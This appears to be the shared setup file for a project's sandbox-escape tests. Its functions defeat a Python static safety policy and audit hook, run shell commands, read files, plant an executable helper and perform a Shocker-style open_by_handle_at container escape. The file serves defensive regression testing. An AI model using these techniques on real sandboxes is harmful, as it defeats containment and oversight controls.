# The hostile scenes' shared opening (tests/test_sandbox_escapes.py puts it in front of each scene).
# Everything here gets past the static safety policy as of commit 9911635:
#   - `OS = os_module` rebinds the module, and the policy only checks attributes of import names;
#   - `vars(sys)["modules"]` reaches every loaded module (ctypes, gc, subprocess, importlib...)
#     without the `sys.modules` attribute syntax;
#   - dunder and frame attributes are looked up with getattr(obj, "".join([...])), which the
#     policy's string-fragment check cannot see through.
# A scene reports a success by raising RuntimeError(TAG + ...): the word is never written out
# in the source, so it can only reach the test's output when the attack really ran.
import os as os_module
import sys as sys_module

from manim import *

PARAMS = {}  # filled in by the test

OS = os_module
SYSMOD = vars(sys_module)["modules"]
EXE = vars(sys_module)["executable"]
TAG = "ESC" + "APED"
HELD = "HE" + "LD"


def leak(*what):
    raise RuntimeError(TAG + ": " + " | ".join(str(w) for w in what))


def held(*what):
    raise RuntimeError(HELD + ": " + " | ".join(str(w) for w in what))


def attr(obj, *parts):
    return getattr(obj, "".join(parts))


def module(name):
    found = SYSMOD.get(name)
    if found is None:
        found = SYSMOD["importlib"].import_module(name)
    return found


def _off(self, event, args):
    return None


def unhook(technique="all"):
    """Switch the audit hook off from inside; returns the techniques that found something to switch."""
    done = []
    if technique in ("all", "subclasses"):
        subclasses = vars(type)["__subclasses__"]
        seen, todo = set(), [object]
        while todo:
            cls = todo.pop()
            try:
                subs = subclasses(cls)
            except TypeError:
                continue
            for sub in subs:
                if sub not in seen:
                    seen.add(sub)
                    todo.append(sub)
        for cls in seen:
            if "Guard" in cls.__name__ and "__call__" in vars(cls):
                cls.__call__ = _off
                done.append("subclasses:" + cls.__name__)
    if technique in ("all", "frames"):
        try:
            raise ValueError("probe")
        except ValueError as exc:
            tb = exc.__traceback__
        frame = attr(tb, "tb", "_frame")
        while frame is not None:
            for value in list(attr(frame, "f", "_locals").values()):
                if hasattr(value, "active") and "Guard" in type(value).__name__:
                    value.active = False
                    done.append("frames:" + attr(frame, "f", "_code").co_name)
            frame = attr(frame, "f", "_back")
    if technique in ("all", "sys.modules"):
        for name, mod in list(SYSMOD.items()):
            if "guard" in name.lower() and mod is not None:
                for value in list(vars(mod).values()):
                    if isinstance(value, type) and "__call__" in vars(value):
                        value.__call__ = _off
                        done.append("sys.modules:" + name + "." + value.__name__)
    if technique in ("all", "gc"):
        for obj in module("gc").get_objects():
            if type(obj).__name__ == "Guard" and hasattr(obj, "active"):
                obj.active = False
                done.append("gc")
    return done


def libc():
    ctypes = module("ctypes")
    return ctypes, ctypes.CDLL(None, use_errno=True)


def sh(command):
    """Run a shell command (after unhook()); returns its exit status and output."""
    proc = module("subprocess").run(["/bin/sh", "-c", command], capture_output=True, text=True, timeout=10)
    return proc.returncode, (proc.stdout + proc.stderr)[-400:]


def try_read(path, size=300):
    try:
        with open(path, "rb") as handle:
            return handle.read(size).decode(errors="replace")
    except BaseException:  # the audit hook raises a BaseException
        return None


def install_helper(name="latex"):
    """Write the native helper (PARAMS["helper"]) into the job directory as an executable `name`."""
    with open(name, "w") as handle:
        handle.write("#!" + EXE + "\n" + PARAMS["helper"])
    OS.chmod(name, 0o755)
    return OS.path.join(OS.getcwd(), name)


def shocker(target):
    """open_by_handle_at() on ext4's root inode, then an openat() below it (after unhook())."""
    ctypes, c = libc()

    class Handle(ctypes.Structure):
        _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 8)]

    handle = Handle(8, 1, (ctypes.c_ubyte * 8)(2, 0, 0, 0, 0, 0, 0, 0))
    root = c.open_by_handle_at(OS.open(".", OS.O_RDONLY), ctypes.byref(handle), OS.O_RDONLY)
    if root < 0:
        return None, "open_by_handle_at refused, errno %d" % ctypes.get_errno()
    fd = OS.open(target.lstrip("/"), OS.O_RDONLY, dir_fd=root)
    return OS.read(fd, 300).decode(errors="replace"), "read"
